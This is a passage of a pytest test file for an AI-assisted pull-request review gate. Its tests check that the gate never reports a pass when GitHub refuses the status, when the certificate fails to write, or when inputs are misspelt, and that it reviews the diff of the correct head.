        seen.append(prompt)
        return verdict_text(request, "fail" if "evil.sh" in prompt else "pass")

    setup_pull(fake, diff=evil, config="exclude: ['docs/**']\n")
    result = run_gate(tmp_path, fake, sim_factory(responder), pr_payload())
    assert seen
    assert all("evil.sh" in prompt for prompt in seen)
    assert result.outputs["state"] == "fail"
    assert result.outputs["reason"] == "reviewer_fail"
    assert fake.states(HEAD) == ["pending", "failure"]
    assert result.code == 1
    coverage = result.certificate["context"]["coverage"]
    assert coverage["reviewed"] == ["src/app.py"]
    assert coverage["skipped"] == []


@pytest.mark.parametrize("status", [403, 500])
def test_a_refused_success_status_is_never_reported_as_pass(tmp_path, fake, sim_factory, status):
    # C2: the outputs, summary and log once said state=pass/status=success although
    # GitHub never took the success status
    setup_pull(fake)
    fake.inject(
        r"^POST /repos/.*/statuses/",
        status,
        count=50,
        message="Resource not accessible by integration",
        body=r'"state":\s*"success"',
    )
    result = run_gate(tmp_path, fake, sim_factory(), pr_payload())
    assert result.outputs["state"] == "incomplete"
    assert result.outputs["reason"] == f"github_http_{status}"
    assert result.outputs["status"] == "error"
    assert fake.states(HEAD) == ["pending", "error"]
    assert result.code == 3
    assert "::error" in result.stdout
    assert "review-gate: error on" in result.stdout
    assert "| state | `pass`" not in result.summary
    cert = result.certificate  # rewritten with the decision that stands
    assert cert["decision"]["state"] == "incomplete"
    assert cert["decision"]["reason"] == f"github_http_{status}"
    assert cert["context"]["review_decision"]["state"] == "pass"


def test_a_refused_success_status_with_fail_job_false_still_says_why(tmp_path, fake, sim_factory):
    setup_pull(fake)
    fake.inject(r"^POST /repos/.*/statuses/", 403, count=50, body=r'"state":\s*"(success|error)"')
    result = run_gate(tmp_path, fake, sim_factory(), pr_payload(), inputs={"FAIL-JOB": "false"})
    assert result.code == 0  # fail-job: false: only the (pending) status blocks the merge
    assert fake.states(HEAD) == ["pending"]
    assert result.outputs["state"] == "incomplete"
    assert result.outputs["reason"] == "github_http_403"
    assert result.outputs["status"] == "none"
    assert "::error" in result.stdout
    assert "could not post the error status" in result.stdout
    assert "review-gate: no status posted: " in result.stdout
    assert "none on" not in result.stdout


def test_an_unexpected_error_writing_the_certificate_is_never_a_pass(
    tmp_path, fake, sim_factory, monkeypatch
):
    import gate.review.certificate

    def broken(*_a: Any, **_k: Any) -> Any:
        raise TypeError("unexpected")

    monkeypatch.setattr(gate.review.certificate, "write", broken)
    setup_pull(fake)
    result = run_gate(tmp_path, fake, sim_factory(), pr_payload())
    assert fake.states(HEAD) == ["pending", "error"]
    assert result.outputs["state"] == "incomplete"
    assert result.outputs["reason"] == "certificate_unwritten"
    assert result.outputs["status"] == "error"
    assert result.code == 3


def test_the_diff_reviewed_is_the_one_of_the_reviewed_head(tmp_path, fake, sim_factory):
    # a push and a force-push back between the fetch and the head re-check: GitHub's
    # "current PR diff" then belonged to another head; the compare of BASE...HEAD cannot
    seen: list[str] = []

    def responder(request: dict[str, Any]) -> str:
        seen.append(extract_prompt("openai", request)[1])
        return verdict_text(request)

    setup_pull(fake)
    fake.diffs[7] = DIFF.replace(b"src/calc.py", b"other.py")
    result = run_gate(tmp_path, fake, sim_factory(responder), pr_payload())
    assert result.outputs["reason"] == "reviewer_pass"
    assert result.certificate["context"]["coverage"]["reviewed"] == ["src/calc.py"]
    assert len(seen) == 1
    assert "return a + b" in seen[0]
    assert "other.py" not in seen[0]
    diff_gets = [r for r in fake.requests if "diff" in r.headers.get("accept", "")]
    assert [r.path.rsplit("/", 1)[-1] for r in diff_gets] == [f"{BASE}...{HEAD}"]


def test_a_misspelt_input_is_an_error_status_naming_it(tmp_path, fake, sim_factory):
    setup_pull(fake)
    sim = sim_factory()
    result = run_gate(tmp_path, fake, sim, pr_payload(), inputs={"MIN-CONFIDANCE": "0.99"})
    assert result.outputs["reason"] == "config_unknown_input"
    assert result.outputs["state"] == "needs_human"
    statuses = fake.status_list(HEAD)
    assert [s["state"] for s in statuses] == ["error"]
    assert "min-confidance" in statuses[-1]["description"]
    assert "did you mean min-confidence?" in result.stdout
    assert result.code == 3
    assert sim.count == 0


def test_a_run_that_posted_nothing_says_so_in_the_log(tmp_path, fake, sim_factory):
    setup_pull(fake)
    fake.inject(r"^GET /repos/.*/pulls/7$", 404, count=10, message="Not Found")
    result = run_gate(tmp_path, fake, sim_factory(), pr_payload())
    assert result.outputs["reason"] == "github_http_404"
    assert result.outputs["status"] == "none"
    assert fake.statuses == {}
    last = result.stdout.strip().splitlines()[-1]
    assert last.startswith("review-gate: no status posted: incomplete: GitHub answered HTTP 404")
    assert result.code == 3


def test_a_refused_status_keeps_the_reviews_own_decision_in_the_certificate(
    tmp_path, fake, sim_factory
):
    # (issue 20: partial coverage no longer reaches the reviewer; a reviewer's own
    # blocking decision is refused instead)
    setup_pull(fake, diff=DIFF)
    fake.inject(r"^POST /repos/.*/statuses/", 500, count=50, body=r'"state":\s*"(error|failure)"')
    sim = sim_factory(lambda req: verdict_text(req, "pass", confidence=0.5))
    result = run_gate(tmp_path, fake, sim, pr_payload())
    assert fake.states(HEAD) == ["pending"]
    assert result.outputs["reason"] == "github_http_500"
    assert result.outputs["status"] == "none"
    cert = result.certificate
    assert cert["decision"]["reason"] == "github_http_500"
    assert cert["context"]["review_decision"]["reason"] == "low_confidence"
